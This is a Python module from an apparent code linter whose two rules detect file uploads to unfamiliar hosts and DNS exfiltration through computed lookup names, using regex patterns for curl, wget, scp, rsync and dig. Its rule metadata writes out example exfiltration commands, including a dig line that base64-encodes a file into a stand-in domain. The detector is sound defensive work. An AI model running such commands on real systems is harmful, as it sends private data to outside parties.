"""DX: commands that upload files to strangers, or look up names that carry data."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from trace2skill.lint.gates import lowered
from trace2skill.lint.hosts import host_of
from trace2skill.lint.pipes import LONGEST, statements
from trace2skill.lint.purpose import declares, speaks_of
from trace2skill.lint.pynames import Names
from trace2skill.lint.reputation import STRANGERS, addresses_in
from trace2skill.lint.rules import Hit, Rule
from trace2skill.lint.scripts import Script
from trace2skill.lint.view import View
from trace2skill.records import Severity

_FILE = re.compile(
    r"\bcurl\b[^\n]{0,600}(?:-F|--form|-d|--data[a-z-]{0,12})[ =]{1,2}[\"']?(?:\w{1,40}=)?@(?!-)"
    r"|\bcurl\b[^\n]{0,600}[ ](?:-T|--upload-file)[ =]|\bwget\b[^\n]{0,600}--(?:post|body)-file[ =]"
    r"|\bcat\b[^|\n]{1,200}\|[^\n]{0,80}\bcurl\b[^\n]{0,600}@-",
)
_COPY = re.compile(
    r"\b(?:scp|rsync)\b[^\n]{1,400}?[ ](?:[\w.-]{1,40}@)?((?:[\w-]{1,60}\.){1,5}[a-z]{2,20}):[\w/~.]",
    re.IGNORECASE,
)
_BUILT = re.compile(
    r"[ ](?:\./)?(?:dist|build|public|_site|out|site|target|www|html|htdocs|release)(?:/[\w.*/-]{0,80})?[ ]"
)
_LOOKUP = re.compile(
    r"\b(?:dig|nslookup|host|drill|ping|resolvectl query|Resolve-DnsName)[ \t]", re.IGNORECASE
)
_BELOW = re.compile(
    r"[)`]\.([\w.-]{3,200})|\$\{?([A-Za-z_]\w{0,40})[^\s.}]{0,40}\}?\.([\w-]{1,60}\.[\w.-]{2,200})"
)
_COMPUTED = r"(?:^|[\s;])(?:for {0}[ ]in|read(?: -r)? {0}\b|{0}=[\"']?(?:\$\(|`))"
_RESOLVERS = frozenset(
    ("socket.gethostbyname", "socket.getaddrinfo", "dns.resolver.resolve", "dns.resolver.query")
)


def upload(view: View) -> Iterator[Hit]:
    """Find commands that upload a local file to a fixed host of a stranger."""
    for script in view.scripts("shell"):
        for line, text in statements(script.text):
            yield from _uploads(view, script, line, text[:LONGEST])
    for script in view.scripts("python"):
        yield from _python_uploads(view, script)


def _uploads(view: View, script: Script, line: int, text: str) -> Iterator[Hit]:
    names = (
        [one.host for one in addresses_in(text) if one.standing in STRANGERS] if _FILE.search(text) else []
    )
    copied = _COPY.search(text)
    remote = host_of(f"ssh://{copied[1]}") if copied is not None else None
    if remote is not None and remote.reach == "public":
        names.append(remote)
    for host in names:
        if not re.search(r"YOUR|[<{$\[]", host.name, re.IGNORECASE):
            why = "the skill speaks of the host" if speaks_of(view, host) else ""
            if remote is host and _BUILT.search(text):
                why = "it deploys what was built"
            yield _uploaded(script, (line, text.strip()), host.name, why)


def _uploaded(script: Script, place: tuple[int, str], host: str, why: str) -> Hit:
    level: Severity = lowered("warning") if why else "warning"
    return Hit(
        script.path,
        script.at(place[0]),
        f"uploads a file to {host}",
        fix="name the host in the description, and say what goes there",
        evidence=place[1],
        level=level,
        gates=(why,) if why else (),
        context=script.context,
    )


def _python_uploads(view: View, script: Script) -> Iterator[Hit]:
    names = Names(script.nodes)
    for node in script.nodes:
        if not isinstance(node, ast.Call) or not any(one.arg == "files" for one in node.keywords):
            continue
        given = [node.args[0]] if node.args else [one.value for one in node.keywords if one.arg == "url"]
        url = names.text(given[0]) if given else None
        for address in addresses_in(url or ""):
            if address.standing in STRANGERS:
                place = node.lineno, address.url
                why = "the skill speaks of the host" if speaks_of(view, address.host) else ""
                yield _uploaded(script, place, address.host.name, why)


def dns(view: View) -> Iterator[Hit]:
    """Find lookups of names whose label is computed, under a fixed public domain."""
    for script in view.scripts("shell"):
        for line, text in statements(script.text):
            domain = _looked_up(text[:LONGEST], script.text)
            if domain:
                yield _looked(view, script, (line, text.strip()), domain)
    for script in view.scripts("python"):
        names = Names(script.nodes)
        for node in script.nodes:
            if isinstance(node, ast.Call) and node.args and names.of(node.func) in _RESOLVERS:
                domain = _domain_of(node.args[0], names)
                if domain:
                    yield _looked(view, script, (node.lineno, ast.unparse(node)[:200]), domain)


def _looked(view: View, script: Script, place: tuple[int, str], domain: str) -> Hit:
    host = host_of(f"dns://{domain}")
    lower = host is not None and declares(view, host) and script.source == "fence"
    message = f"a computed label is looked up under {domain}"
    level: Severity | None = "warning" if lower else None
    at = script.at(place[0])
    return Hit(script.path, at, message, evidence=place[1], level=level, context=script.context)


def _looked_up(text: str, script: str) -> str:
    """Return the domain under which a command looks a computed label up, or nothing."""
    looked = _LOOKUP.search(text)
    found = _BELOW.search(text, looked.end()) if looked is not None else None
    if found is None:
        return ""
    name = found[2]
    if name and not re.search(_COMPUTED.format(re.escape(name)), script[:200_000]):
        return ""
    host = host_of(f"dns://{found[1] or found[3]}")
    return host.name if host is not None and host.reach == "public" else ""


def _domain_of(node: ast.expr, names: Names) -> str:
    """Return the fixed end of a composed name, if it is a domain and something goes before it."""
    parts = node.values if isinstance(node, ast.JoinedStr) else []
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        parts = [node.left, node.right]
    tail = ""
    for part in reversed(parts):
        text = names.text(part.value if isinstance(part, ast.FormattedValue) else part)
        if text is None:
            host = (
                host_of(f"dns://{tail[1:]}") if re.fullmatch(r"\.[\w-]{1,60}\.[\w.-]{2,100}", tail) else None
            )
            return host.name if host is not None and host.reach == "public" else ""
        tail = text + tail
    return ""


RULES = (
    Rule(
        id="DX504", name="upload-local-file", class_="risky", level="warning", check=upload,
        why="A file leaves for a host that the description does not name.",
        bad="```sh\ncurl -F f=@report.pdf https://files.zz-not-a-host.xyz/in\n```\n",
        good="```sh\ncurl -F f=@report.pdf http://localhost:8000/in\n```\n",
        hazards=("CWE-200",),
    ),
    Rule(
        id="DX507", name="dns-exfil", class_="malicious", level="error", check=dns,
        why="Whoever owns the domain reads what is looked up below it, past every proxy.",
        bad='```sh\ndig "$(cat x | base64).zz-not-a-host.xyz"\n```\n',
        good='```sh\ndig "$DOMAIN"\ndig www.zz-not-a-host.xyz\n```\n',
        hazards=("CWE-200",),
    ),
)  # fmt: skip
